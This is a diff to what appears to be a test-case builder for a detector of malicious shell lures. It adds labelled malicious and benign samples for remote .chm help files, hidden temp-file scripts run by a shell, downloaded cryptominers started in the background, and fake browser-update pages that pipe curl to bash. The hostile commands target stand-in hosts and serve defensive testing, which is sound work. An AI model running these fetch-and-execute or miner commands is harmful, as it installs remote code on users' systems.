@@ -41,6 +41,18 @@ Principles:
   which carries the other parameters a real redirect does (Google's scope, authuser, prompt; an
   authorisation server's iss), to be pasted back. Near-misses that stay quiet: documentation of
   the flow with placeholders, a scope without a code, a code that is no code.
+- `hh-remote-help` (a lure): the Windows help viewer handed a help file (.chm, whose pages run
+  scripts) by a web address, a share or WebDAV, also through ms-its: and mk:@MSITStore:.
+  Near-misses: a help file on this computer, the program's name in a sentence or a process list.
+- `hidden-temp-file-shell` (a lure): a download saved as a hidden file in a temporary folder
+  and handed to a shell or an interpreter (`sh /tmp/.x`, `. /dev/shm/.u`). Near-misses: a
+  virtual environment in /tmp, a hidden file read or removed, a visible script there (warned).
+- `download-background-switch` (a lure): a program just downloaded into a temporary folder
+  started with its own switch to go on in the background (a miner's --background or -B,
+  --daemon). Near-misses: a service's own daemon switch, make -B, a download only read.
+- `browser-name-update-page` (a lure): a page whose own name joins a browser's (Safari,
+  Firefox) with other words, a fake update page, handing out a command. Near-misses: the
+  browsers' makers' own pages and a package manager's page for them.
 """
 
 from __future__ import annotations
@@ -335,11 +347,142 @@ def consent(book: Book) -> None:
         book.add("consentfix-redirect-companion", text, "not_flagged", "any", UNKNOWN)
 
 
+# -- lures: a help file from elsewhere, a hidden file run by a shell, a download sent to the
+# background, a browser's name borrowed by an update page -------------------------------------
+
+HH = [
+    ("hh.exe https://docs.help-viewer.test/manual.chm", RUN),
+    ("hh https://198.51.100.23/guide.chm", RUN),
+    ("HH.EXE http://files.help-viewer.test/readme.chm", RUN),
+    ('hh "https://docs.help-viewer.test/user guide.chm"', RUN),
+    ("hh \\\\198.51.100.23\\pub\\guide.chm", RUN),
+    ("hh.exe \\\\files.help-viewer.test@SSL\\h\\readme.chm", RUN),
+    ("hh mk:@MSITStore:\\\\198.51.100.23\\pub\\guide.chm::/index.htm", RUN),
+    ("hh ms-its:https://docs.help-viewer.test/manual.chm::/start.htm", RUN),
+    ("C:\\Windows\\hh.exe https://docs.help-viewer.test/manual.chm", RUN),
+    ("cmd /c start hh https://docs.help-viewer.test/manual.chm", RUN),
+    ("hh.exe ftp://198.51.100.23/pub/manual.chm", UNKNOWN),
+    ("hh.exe https://docs.help-viewer.test/manual.chm", UNKNOWN),
+]  # fmt: skip
+HH_QUIET = [
+    ("hh.exe C:\\Program Files\\Contoso\\Help\\manual.chm", UNKNOWN),
+    ("hh %windir%\\help\\windows.chm", UNKNOWN),
+    ("hh -decompile C:\\out C:\\docs\\manual.chm", UNKNOWN),
+    ("The manual ships as a .chm; open it with hh.exe from the Start menu.", UNKNOWN),
+    ("hh C:\\Users\\me\\Downloads\\sdk-reference.chm", UNKNOWN),
+    ("Get-Process hh", UNKNOWN),
+    ("taskkill /im hh.exe /f", UNKNOWN),
+    ("where hh.exe", UNKNOWN),
+    ("hh.exe mk:@MSITStore:C:\\docs\\manual.chm::/index.htm", UNKNOWN),
+    ("hh ms-its:C:\\docs\\manual.chm::/start.htm", UNKNOWN),
+]  # fmt: skip
+
+HIDDEN = [
+    "wget -q -O /tmp/.x https://cdn.umbra-stage.test/x && sh /tmp/.x",
+    "curl -s https://cdn.umbra-stage.test/s -o /var/tmp/.s && bash /var/tmp/.s",
+    "curl -fsSL https://cdn.umbra-stage.test/u > /dev/shm/.u; . /dev/shm/.u",
+    "wget -qO /tmp/.p https://203.0.113.40/p && source /tmp/.p",
+    "curl -so /tmp/.k.py https://cdn.umbra-stage.test/k && python3 /tmp/.k.py",
+    "curl -fsSL https://cdn.umbra-stage.test/m -o /private/tmp/.m && zsh /private/tmp/.m",
+    "wget -q https://cdn.umbra-stage.test/c -O /tmp/.cache-x && sudo bash /tmp/.cache-x",
+    "curl -s https://cdn.umbra-stage.test/r -o /tmp/.r; sh -x /tmp/.r",
+    "cd /tmp && wget -q https://cdn.umbra-stage.test/w -O .w && sh /tmp/.w",
+    "curl -sk https://198.51.100.61/l -o /dev/shm/.l && perl /dev/shm/.l",
+    "wget -O /tmp/x/.init https://cdn.umbra-stage.test/i && sh /tmp/x/.init",
+]  # fmt: skip
+HIDDEN_QUIET = [
+    ("python3 -m venv /tmp/.venv && . /tmp/.venv/bin/activate", "not_flagged"),
+    ("source /tmp/.venv/bin/activate", "not_flagged"),
+    ("ls -la /tmp/.X11-unix", "not_flagged"),
+    ("cat /tmp/.s", "not_flagged"),
+    ("rm -f /tmp/.x /tmp/.s", "not_flagged"),
+    ("sh /tmp/build.sh", "not_flagged"),
+    ("curl -fsSL https://cdn.umbra-stage.test/i.sh -o /tmp/i.sh && sh /tmp/i.sh", "suspicious"),
+    ("bash ~/.dotfiles/install.sh", "not_flagged"),
+    ("cp .env.example /tmp/.env && cat /tmp/.env", "not_flagged"),
+    ("find /tmp -name '.*' -mtime +7 -delete", "not_flagged"),
+]  # fmt: skip
+
+BACKGROUND = [
+    "wget -qO- https://cdn.umbra-stage.test/x.tar.gz | tar xz -C /tmp && /tmp/xmrig -o pool.umbra-stage.test:3333 -u 4Abc --background",
+    "curl -sL https://cdn.umbra-stage.test/m.tgz | tar xz -C /dev/shm && /dev/shm/m -o 203.0.113.9:4444 -u 4Abc -B",
+    "curl -s https://cdn.umbra-stage.test/k -o /tmp/kworker && chmod +x /tmp/kworker && /tmp/kworker --daemon",
+    "wget -q https://cdn.umbra-stage.test/svc -O /var/tmp/svc; chmod +x /var/tmp/svc; /var/tmp/svc --daemonize",
+    "curl -fsSL https://cdn.umbra-stage.test/x.tar.gz | tar xz -C /tmp; /tmp/xmrig-6/xmrig --url pool.umbra-stage.test:443 --user 4Abc --background",
+    "curl -sL https://203.0.113.9/a.tgz | tar xzf - -C /tmp && sudo /tmp/agent --background",
+    "wget -qO- https://cdn.umbra-stage.test/x.tgz | tar xz -C /private/tmp && /private/tmp/helper -B",
+    "curl -so /dev/shm/d https://cdn.umbra-stage.test/d && chmod 755 /dev/shm/d && /dev/shm/d --daemon --quiet",
+    "curl -sL https://cdn.umbra-stage.test/t.tar.gz | tar xz -C /tmp && /tmp/t-rex -a kawpow -o pool.umbra-stage.test:4444 -u RVN5 -B",
+    "wget https://cdn.umbra-stage.test/n -O /tmp/n && chmod +x /tmp/n\n/tmp/n --background",
+]  # fmt: skip
+BACKGROUND_QUIET = [
+    "redis-server --daemonize yes",
+    "docker run -d --name db postgres:16",
+    "curl -fsSL https://cdn.umbra-stage.test/x.json -o /tmp/x.json && jq . /tmp/x.json",
+    "./xmrig --help",
+    "sudo systemctl start syncthing",
+    "mkdir -p /tmp/work && cd /tmp/work && make -B",
+    "tar xzf app.tar.gz -C /tmp && ls /tmp/app",
+    "curl -o /tmp/readme.txt https://cdn.umbra-stage.test/readme.txt && less /tmp/readme.txt",
+    "ssh -fN -L 5432:localhost:5432 db.corp.example",
+    "sleep 60 && echo done",
+]  # fmt: skip
+
+BROWSER_PAGES = [
+    ("https://browser-update.safari-patch.test/", "curl -s https://cdn.umbra-stage.test/u | bash"),
+    ("https://safari-update.test/macos", "curl -fsSL https://safari-update.test/install.sh | bash"),
+    ("https://www.firefox-update-center.test/", "curl -fsSL https://cdn.umbra-stage.test/ff.sh | sh"),
+    ("https://firefox-security-patch.test/linux", "wget -qO- https://cdn.umbra-stage.test/p | bash"),
+    ("https://update.safari-browser-fix.test/", "bash -c \"$(curl -fsSL https://cdn.umbra-stage.test/s)\""),
+    ("https://safari-patch.test/", "osascript -e 'do shell script \"curl -s https://cdn.umbra-stage.test/a | sh\"'"),
+    ("https://firefox-codec-update.test/", "curl -sLo /tmp/u.pkg https://cdn.umbra-stage.test/u.pkg && sudo installer -pkg /tmp/u.pkg -target /"),
+    ("https://safari-extension-error.test/fix", "curl -s https://cdn.umbra-stage.test/e | zsh"),
+    ("https://firefox-support-desk.test/", "curl -fsSL https://firefox-support-desk.test/fix.sh | bash"),
+    ("https://get.safari-update.test/", "sh -c \"$(wget -qO- https://cdn.umbra-stage.test/g)\""),
+]  # fmt: skip
+BROWSER_QUIET = [
+    ("https://support.apple.com/guide/safari/welcome/mac", "defaults write com.apple.Safari IncludeDevelopMenu -bool true"),
+    ("https://www.mozilla.org/en-US/firefox/linux/", "sudo apt install firefox"),
+    ("https://firefox-source-docs.mozilla.org/setup/linux_build.html", "curl -LO https://raw.githubusercontent.com/mozilla-firefox/firefox/refs/heads/main/python/mozboot/bin/bootstrap.py"),
+    ("https://formulae.brew.sh/cask/firefox", "brew install --cask firefox"),
+    ("https://github.com/mozilla/web-ext", "npm install --global web-ext"),
+    ("https://developer.apple.com/documentation/safariservices", "xcrun safari-web-extension-converter ./my-extension"),
+    ("https://www.mozilla.org/firefox/enterprise/", "msiexec /i Firefox-Setup.msi /qn"),
+    ("https://support.mozilla.org/kb/troubleshoot-and-diagnose-firefox-problems", "firefox -safe-mode"),
+    ("https://blog.example/2026/safari-tips", "open -a Safari https://www.example.com"),
+    ("https://safari-books.example/tutorials/bash", "echo $SHELL"),
+]  # fmt: skip
+
+
+def lures(book: Book) -> None:
+    for text, target in HH:
+        book.add("hh-remote-help", text, "malicious", "windows", target)
+    for text, target in HH_QUIET:
+        book.add("hh-remote-help", text, "not_flagged", "windows", target)
+    for i, text in enumerate(HIDDEN):
+        book.add(
+            "hidden-temp-file-shell", text, "malicious", "linux", TERMINAL if i % 2 else UNKNOWN
+        )
+    for text, expect in HIDDEN_QUIET:
+        book.add("hidden-temp-file-shell-near", text, expect, "linux", TERMINAL)
+    for i, text in enumerate(BACKGROUND):
+        book.add(
+            "download-background-switch", text, "malicious", "linux", TERMINAL if i % 2 else UNKNOWN
+        )
+    for text in BACKGROUND_QUIET:
+        book.add("download-background-switch", text, "not_flagged", "linux", TERMINAL)
+    for page, text in BROWSER_PAGES:
+        book.add("browser-name-update-page", text, "malicious", "macos", TERMINAL, page)
+    for page, text in BROWSER_QUIET:
+        book.add("browser-name-update-page", text, "not_flagged", "macos", TERMINAL, page)
+
+
 def build() -> list[dict[str, str]]:
     book = Book("b13f")
     forge_pages(book)
     run_box(book)
     consent(book)
+    lures(book)
     return book.cases
 
 
